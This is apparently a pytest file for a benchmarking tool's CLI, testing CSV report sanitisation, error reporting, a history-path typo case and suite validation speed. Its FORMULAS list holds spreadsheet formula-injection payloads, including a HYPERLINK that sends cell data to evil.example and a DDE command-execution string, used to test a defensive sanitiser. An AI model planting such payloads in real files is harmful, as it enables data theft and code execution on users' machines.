"""Issue 25, item 15: cosmetic but expected. The CSV `report` hands to people cannot run formulas in a spreadsheet,
a failed case is one line on stderr (its traceback in the run's log), a mistyped `--history` creates no database,
and a large suite validates fast and names colliding cases."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
import typing

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_hostile_input import BASE, REPO, TINY, assert_usage_error, snapshot
from test_report import make_run_dir

from ticketbench.bench.cli import main
from ticketbench.bench.suite import SuiteError, load_suite, parse_suite
from ticketbench.models.tickets import TicketConfig

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
            "\tx"]  # fmt: skip


@pytest.mark.e2e
def test_report_csv_neutralises_formula_cells_and_leaves_results_csv_as_it_was(tmp_path):
    run = make_run_dir(tmp_path / "run")
    df = pd.read_csv(run / "results.csv").astype({"device_name": object, "error": object})
    for i, text in enumerate(FORMULAS):
        df.loc[i, "device_name"] = text
    df.loc[len(FORMULAS), "error"] = FORMULAS[1]
    df.to_csv(run / "results.csv", index=False)
    before = snapshot(run)
    assert main(["report", str(run), "--csv", str(tmp_path / "all.csv"), "--html", str(tmp_path / "r.html")]) == 0
    assert snapshot(run) == before  # results.csv (the data contract) keeps every cell as it is
    rows = list(csv.DictReader(io.StringIO((tmp_path / "all.csv").read_text(), newline="")))
    assert [r["device_name"] for r in rows[: len(FORMULAS)]] == ["'" + t for t in FORMULAS]
    assert rows[len(FORMULAS)]["error"] == "'" + FORMULAS[1]
    assert rows[-1]["device_name"] == "Fake cpu"  # plain text untouched
    out = pd.read_csv(tmp_path / "all.csv")
    assert out["latency_ms_p50"].equals(pd.read_csv(run / "results.csv")["latency_ms_p50"])  # numbers stay numbers
    assert (out["latency_ms_p50"].dropna() > 0).all()


@settings(max_examples=80, deadline=None)
@given(cells=st.lists(st.text(max_size=8) | st.sampled_from([*FORMULAS, "\rx"]), min_size=1, max_size=6))
def test_no_text_cell_of_a_shared_csv_starts_a_formula(cells):
    from ticketbench.reports.html import spreadsheet_safe

    df = pd.DataFrame({"text": cells, "number": [-1.5] * len(cells)})
    safe = spreadsheet_safe(df)
    for before, after in zip(cells, safe["text"], strict=True):
        assert not after.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert after in (before, "'" + before)
    assert safe["number"].tolist() == [-1.5] * len(cells) and df["text"].tolist() == cells


# -- a failed case: one line on stderr, the traceback in RUN_DIR/run.log -----------------------------------------------
FAIL_ONE_CASE = """
import sys
from ticketbench.bench import runner
from ticketbench.bench.cli import main
from ticketbench.bench.suite import SuiteError, load_suite, parse_suite
from ticketbench.models.tickets import TicketConfig
from ticketbench.results import empty_row

def fake(self, case, base):
    if case.ticket.method == "magnitude":
        raise RuntimeError("boom\\nsecond line")
    return [empty_row(**base, batch_size=b, status="ok", latency_ms_p50=1.0) for b in self.suite.measure.batch_sizes]

runner.Runner._measure_case = fake
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.e2e
def test_a_failed_case_is_one_line_on_stderr_and_its_traceback_is_in_run_log(tmp_path):
    out = tmp_path / "run"
    env = {**os.environ, "PYTHONPATH": str(REPO), "OMP_NUM_THREADS": "1"}
    args = ["run", "--suite", str(TINY), "--out", str(out), "--device", "cpu", "-q"]
    res = subprocess.run([sys.executable, "-c", FAIL_ONE_CASE, *args], env=env, capture_output=True, text=True)
    assert res.returncode == 1, res.stderr
    assert "Traceback" not in res.stderr, res.stderr
    failed = [ln for ln in res.stderr.splitlines() if "failed:" in ln]
    assert len(failed) == 1 and failed[0].startswith("ERROR case small_cnn-digits-magnitude-s0.80-"), res.stderr
    assert failed[0].endswith(f"failed: RuntimeError: boom second line (traceback in {out / 'run.log'})")
    log = (out / "run.log").read_text()
    assert "Traceback (most recent call last)" in log and "RuntimeError: boom\nsecond line" in log
    assert "ERROR ticketbench.bench.runner: case small_cnn-digits-magnitude" in log  # the run's log lines, beside it


# -- compare --history typo: no results database created in the current directory ------------------------------------
@pytest.mark.parametrize("args", [["a", "b", "--history", "typo"], ["typo", "b"], ["a", "typo"]])
def test_a_mistyped_run_creates_no_database(tmp_path, capsys, monkeypatch, args):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("TICKETBENCH_DB", raising=False)
    make_run_dir(tmp_path / "a"), make_run_dir(tmp_path / "b", "R2")
    before = snapshot(tmp_path)
    line = assert_usage_error(capsys, ["compare", *args], "typo: not a run directory (no results.csv)")
    assert f"no results database at {tmp_path / 'runs' / 'ticketbench.sqlite'}" in line and "--db" in line
    assert not (tmp_path / "runs").exists() and snapshot(tmp_path) == before


# -- a suite of 10**4 cases validates in seconds, and colliding case ids name both cases ------------------------------
def test_ten_thousand_cases_validate_fast_reading_type_hints_once_per_options_class(tmp_path, monkeypatch):
    """Validation took 12 s: typing.get_type_hints (which compiles every annotation) ran once per case."""
    calls: list[object] = []
    real = typing.get_type_hints
    monkeypatch.setattr(typing, "get_type_hints", lambda obj, *a, **k: calls.append(obj) or real(obj, *a, **k))
    sparsities = ", ".join(f"{k / 100:g}" for k in range(100))  # 100 cases of one id prefix each: no 6-hex collision
    entries = "".join(f"[[cases]]\nseed = {i}\nsparsity = [{sparsities}]\n" for i in range(100))
    (tmp_path / "s.toml").write_text(BASE + entries)
    t0 = time.perf_counter()
    suite = load_suite(str(tmp_path / "s.toml"))
    elapsed = time.perf_counter() - t0
    assert len(suite.cases) == 10_000 and len({c.case_id for c in suite.cases}) == 10_000
    # once per class (the magnitude options, MeasureConfig), or already cached: never once per entry or case
    assert len(calls) == len(set(map(id, calls))) and len(calls) <= 2, calls[:3]
    assert elapsed < 8, elapsed  # 12 s before on an idle machine; about 2 s now


@pytest.mark.parametrize(
    "cases, needle",
    [
        ("[[cases]]\nseed = 1\n[[cases]]\nseed = 1\n", "cases 0 (sparsity 0) and 1 (sparsity 0) are the same case"),
        ("[[cases]]\nsparsity = [0.5, 0.5]\n", "cases 0 (sparsity 0.5) and 0 (sparsity 0.5) are the same case"),
    ],
)
def test_duplicate_cases_are_named(cases, needle):
    with pytest.raises(SuiteError, match=needle.replace("(", r"\(").replace(")", r"\)")):
        parse_suite(__import__("tomllib").loads(BASE + cases), "s.toml")


def test_colliding_case_ids_name_both_cases(monkeypatch):
    """Two different configs whose 6-hex hashes collide: both cases named, and why."""
    monkeypatch.setattr(TicketConfig, "key", lambda self: "c0ffee0000")
    doc = __import__("tomllib").loads(BASE + "[[cases]]\nseed = 1\n[[cases]]\nseed = 2\n")
    with pytest.raises(SuiteError) as err:
        parse_suite(doc, "s.toml")
    msg = str(err.value)
    assert "cases 0 (sparsity 0) and 1 (sparsity 0) differ but share the case id" in msg
    assert "small_cnn-digits-magnitude-s0.00-c0ffee" in msg and "seed" in msg
